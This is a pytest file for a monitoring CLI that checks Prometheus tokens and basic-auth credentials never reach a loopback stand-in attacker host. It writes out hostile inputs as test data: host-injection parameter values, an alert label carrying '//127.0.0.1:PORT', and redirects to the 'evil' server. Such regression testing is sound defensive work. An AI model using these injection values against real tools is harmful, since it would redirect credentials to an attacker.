"""Credentials stay with their origin: each attack written as the attack.

A capturing server on 127.0.0.1 plays the attacker's host and records every request's
headers; the configured Prometheus, Alertmanager and Dits server are capturing servers
too (positive controls: they do get their credentials). No Authorization header and no
basic auth may ever reach the attacker's host, whatever a parameter, an alert label, an
option or a redirect says.
"""

from __future__ import annotations

import base64
import json
import textwrap
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from tests.cli import run_cli
from tests.httpcapture import CapturingServer

# Loopback stand-ins for Prometheus, Alertmanager and Dits: these tests need a service.
pytestmark = pytest.mark.services

TOKEN = "PromToken-s3cr3t"
USER, PASSWORD = "admin", "BasicPw-s3cr3t"
DITS_PASSWORD = "DitsPw-s3cr3t"


@pytest.fixture
def servers() -> Iterator[dict[str, CapturingServer]]:
    made = {name: CapturingServer() for name in ("prometheus", "alertmanager", "dits", "evil", "elsewhere")}
    yield made
    for server in made.values():
        server.close()


@pytest.fixture
def env(servers, isolated_home) -> dict[str, str]:
    return {
        "DITSOPS_PROMETHEUS_URL": servers["prometheus"].url,
        "DITSOPS_ALERTMANAGER_URL": servers["alertmanager"].url,
        "DITSOPS_DITS_URL": servers["dits"].url.replace("http://", f"http://ops:{DITS_PASSWORD}@"),
        "DITSOPS_PROMETHEUS_TOKEN": TOKEN,
        "DITSOPS_HTTP_USERNAME": USER,
        "DITSOPS_HTTP_PASSWORD": PASSWORD,
    }


def no_secret_in(text: str) -> None:
    for secret in (TOKEN, PASSWORD, DITS_PASSWORD):
        assert secret not in text


def basic(user: str, password: str) -> str:
    return "Basic " + base64.b64encode(f"{user}:{password}".encode()).decode()


def runbook(tmp_path: Path, http: str, *, alert: str | None = None, directory: Path | None = None) -> Path:
    path = (directory or tmp_path) / "probe.yaml"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(
        textwrap.dedent(f"""\
            name: probe
            title: Probe an instance
            {f"alert: {alert}" if alert else ""}
            params:
              instance: {{type: string, default: "dits"}}
            steps:
              - id: probe
                title: The instance answers
                http: "{http}"
            """)
    )
    return path


def test_a_parameter_in_the_host_is_refused_by_lint_with_file_and_line(tmp_path, env, servers) -> None:
    path = runbook(tmp_path, "http://{{ instance }}/health")
    lint = run_cli("runbook", "lint", str(path), env=env)
    assert lint.returncode == 2, lint.stdout + lint.stderr
    assert f"{path}:9" in lint.stdout + lint.stderr
    assert "cannot take a parameter" in lint.stdout + lint.stderr


def test_set_cannot_send_the_credentials_to_another_host(tmp_path, env, servers) -> None:
    """The attack as it worked before: the host comes from --set, the token goes along."""
    evil = servers["evil"]
    path = runbook(tmp_path, "http://{{ instance }}/health")
    done = run_cli("runbook", str(path), "--set", f"instance=127.0.0.1:{evil.port}", "--non-interactive", env=env)
    assert done.returncode == 2, done.stdout + done.stderr
    assert evil.seen == []
    no_secret_in(done.stdout + done.stderr)


def test_a_parameter_in_the_path_stays_on_dits_url(tmp_path, env, servers) -> None:
    """'/{{ instance }}' with '/127.0.0.1:PORT' would be '//127.0.0.1:PORT/health': a
    network-path reference to the attacker's host. Values are percent-encoded instead."""
    evil, dits = servers["evil"], servers["dits"]
    path = runbook(tmp_path, "/{{ instance }}/health")
    attack = f"/127.0.0.1:{evil.port}"
    done = run_cli("runbook", str(path), "--set", f"instance={attack}", "--non-interactive", "-o", "json", env=env)
    assert evil.seen == [], done.stdout + done.stderr
    assert [s.path for s in dits.seen] == [f"/%2F127.0.0.1%3A{evil.port}/health"]
    assert dits.seen[0].authorization == basic("ops", DITS_PASSWORD)  # its own user:password only
    no_secret_in(done.stdout + done.stderr)


def test_an_alert_label_cannot_choose_the_host(tmp_path, env, servers) -> None:
    """runbook --alert fills parameters from labels the alert's sender chose."""
    evil, dits, alertmanager = servers["evil"], servers["dits"], servers["alertmanager"]
    now = datetime.now(UTC)
    alertmanager.answers["/api/v2/alerts"] = [
        {
            "labels": {"alertname": "ProbeDown", "severity": "critical", "instance": f"//127.0.0.1:{evil.port}"},
            "annotations": {},
            "startsAt": (now - timedelta(minutes=5)).isoformat(),
            "endsAt": (now + timedelta(minutes=5)).isoformat(),
            "status": {"state": "active", "silencedBy": [], "inhibitedBy": []},
            "fingerprint": "0123456789abcdef",
        }
    ]
    runbook(tmp_path, "/probe/{{ instance }}", alert="ProbeDown", directory=Path(env_home(env)) / "runbooks")
    done = run_cli("runbook", "--alert", "ProbeDown", "--non-interactive", "-o", "json", env=env)
    assert any(s.path.startswith("/api/v2/alerts") for s in alertmanager.seen), done.stderr
    assert evil.seen == [], done.stdout + done.stderr
    assert [s.path for s in dits.seen] == [f"/probe/%2F%2F127.0.0.1%3A{evil.port}"]
    no_secret_in(done.stdout + done.stderr)


def env_home(env: dict[str, str]) -> str:
    import os

    return os.path.join(os.environ["XDG_CONFIG_HOME"], "ditsops")


def test_health_url_elsewhere_gets_no_credentials(env, servers) -> None:
    elsewhere = servers["elsewhere"]
    done = run_cli("health", "--url", elsewhere.url, env=env)
    assert done.returncode == 0, done.stderr
    assert [s.path for s in elsewhere.seen] == ["/health", "/health/live", "/health/ready"]
    assert elsewhere.authorizations() == []
    assert done.stderr.splitlines() == [
        f"no credentials sent: {elsewhere.url} is not a configured origin (dits_url, prometheus_url, alertmanager_url)"
    ]
    no_secret_in(done.stdout + done.stderr)


def test_health_on_the_configured_origin_sends_its_own_credentials_only(env, servers) -> None:
    dits = servers["dits"]
    done = run_cli("health", "-o", "json", env=env)
    assert done.returncode == 0, done.stderr
    assert {s.authorization for s in dits.seen} == {basic("ops", DITS_PASSWORD)}  # not the Prometheus token
    assert json.loads(done.stdout)["url"] == dits.url.replace("http://", "http://ops:***@")
    assert done.stderr == ""


def test_prometheus_gets_its_token_and_basic_auth(env, servers) -> None:
    done = run_cli("prom", "query", "up", env=env)
    assert done.returncode == 0, done.stderr
    assert servers["prometheus"].authorizations() == [basic(USER, PASSWORD)]
    env = {**env, "DITSOPS_HTTP_USERNAME": "", "DITSOPS_HTTP_PASSWORD": ""}
    assert run_cli("prom", "query", "up", env=env).returncode == 0
    assert servers["prometheus"].authorizations()[-1] == f"Bearer {TOKEN}"


@pytest.mark.parametrize("command", [("prom", "query", "up"), ("alerts",)], ids=["prom-query", "alerts"])
def test_a_redirect_to_another_port_does_not_carry_the_token(env, servers, command) -> None:
    """requests (prom query) and httpx (alerts via Prometheus) both: the answer of the
    configured Prometheus cannot send the token elsewhere."""
    prometheus, evil = servers["prometheus"], servers["evil"]
    for path in ("/api/v1/query", "/api/v1/alerts"):
        prometheus.redirects[path] = f"{evil.url}{path}"
    env = {**env, "DITSOPS_HTTP_USERNAME": "", "DITSOPS_HTTP_PASSWORD": "", "DITSOPS_ALERTMANAGER_URL": ""}
    done = run_cli(*command, env=env)
    assert prometheus.authorizations() == [f"Bearer {TOKEN}"]  # the configured origin got it
    assert evil.seen == [] and evil.authorizations() == []
    assert done.returncode == 1, done.stdout + done.stderr
    assert f"sent ditsops to {evil.url}" in done.stderr and "not followed" in done.stderr
    no_secret_in(done.stdout + done.stderr)


def test_a_redirect_within_the_origin_is_followed(env, servers) -> None:
    prometheus = servers["prometheus"]
    prometheus.redirects["/api/v1/alerts"] = f"{prometheus.url}/moved/api/v1/alerts"
    prometheus.answers["/moved/api/v1/alerts"] = {"status": "success", "data": {"alerts": []}}
    env = {**env, "DITSOPS_ALERTMANAGER_URL": "", "DITSOPS_HTTP_USERNAME": "", "DITSOPS_HTTP_PASSWORD": ""}
    done = run_cli("alerts", env=env)
    assert done.returncode == 0, done.stderr
    assert [s.path for s in prometheus.seen][:2] == ["/api/v1/alerts", "/moved/api/v1/alerts"]
    assert prometheus.authorizations()[:2] == [f"Bearer {TOKEN}"] * 2
